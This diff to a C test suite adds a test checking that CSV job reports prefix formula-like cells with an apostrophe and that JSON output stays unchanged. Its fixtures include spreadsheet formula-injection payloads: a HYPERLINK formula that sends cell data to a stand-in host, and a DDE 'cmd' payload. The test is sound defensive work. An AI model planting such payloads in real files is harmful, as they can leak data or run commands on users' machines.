@@ -1395,6 +1395,67 @@ static void check_json(const char *lines, int idx, const char *key, const char *
 	free(hex);
 }
 
+/*
+ * CSV reports let spreadsheet formulas through: a serial "=HYPERLINK(...)"
+ * became a live formula in the operator's spreadsheet. A text cell that
+ * starts with =, +, -, @, a tab or a CR gets a ' in front (OWASP); numbers
+ * and JSON stay as they are.
+ */
+static void test_csv_formula_neutralised(void **state)
+{
+	static const char *const evil[] = {
+		"=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+		"-2+3", "@SUM(1,2)", "\tTAB", "\rCR", "safe=1",
+	};
+	static const char *const want[] = {
+		"'=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0",
+		"'-2+3", "'@SUM(1,2)", "'\tTAB", "'\rCR", "safe=1",
+	};
+	struct fixture *f = *state;
+	struct journal *j = open_rw(f->path);
+	struct job_end e = { .outcome = OUTCOME_FAILED, .error = "-x", .bytes_written = 0 };
+	struct csv_row *rows;
+	size_t len, n, col_serial = 0, col_error = 0, col_size = 0;
+	int64_t job;
+	char *buf;
+
+	for (size_t i = 0; i < sizeof(evil) / sizeof(evil[0]); i++) {
+		struct job_start s = plain_start();
+
+		s.serial = evil[i];
+		assert_int_equal(journal_job_once(j, &s, &e, &job), 0);
+	}
+	buf = report(j, REPORT_CSV, &len);
+	n = csv_parse(buf, len, &rows);
+	assert_int_equal(n, 1 + sizeof(evil) / sizeof(evil[0]));
+	for (size_t c = 0; c < rows[0].n; c++) {
+		if (strcmp(rows[0].f[c].s, "serial") == 0)
+			col_serial = c;
+		else if (strcmp(rows[0].f[c].s, "error") == 0)
+			col_error = c;
+		else if (strcmp(rows[0].f[c].s, "size") == 0)
+			col_size = c;
+	}
+	assert_true(col_serial && col_error && col_size);
+	/* Newest first. */
+	for (size_t i = 0; i < sizeof(evil) / sizeof(evil[0]); i++) {
+		const struct csv_row *r = &rows[n - 1 - i];
+
+		assert_int_equal(r->f[col_serial].len, strlen(want[i]));
+		assert_memory_equal(r->f[col_serial].s, want[i], strlen(want[i]));
+		assert_string_equal(r->f[col_error].s, "'-x");
+		assert_string_equal(r->f[col_size].s, "31914983424");
+	}
+	csv_free(rows, n);
+	free(buf);
+	/* JSON keeps the values as they are. */
+	buf = report(j, REPORT_JSON, &len);
+	assert_non_null(strstr(buf, "\"serial\":\"=HYPERLINK("));
+	assert_non_null(strstr(buf, "\"error\":\"-x\""));
+	free(buf);
+	journal_close(j);
+}
+
 static void test_json_hostile(void **state)
 {
 	struct fixture *f = *state;
@@ -2245,6 +2306,7 @@ int main(int argc, char **argv)
 		T(test_concurrent_reader),
 		T(test_busy_writer_waits),
 		T(test_csv_hostile),
+		T(test_csv_formula_neutralised),
 		T(test_json_hostile),
 		T(test_table_hostile),
 		T(test_status_long_serial_keeps_columns),
